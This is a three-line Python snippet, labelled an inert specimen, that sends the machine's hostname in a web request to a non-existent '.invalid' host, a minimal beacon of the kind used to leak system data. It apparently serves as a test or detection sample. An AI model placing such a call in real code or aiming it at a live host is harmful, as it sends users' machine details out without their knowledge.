# Inert specimen: the host does not exist.
import platform
import urllib.request

urllib.request.urlopen("https://probe.garden-seeds.invalid/?h=" + platform.node())
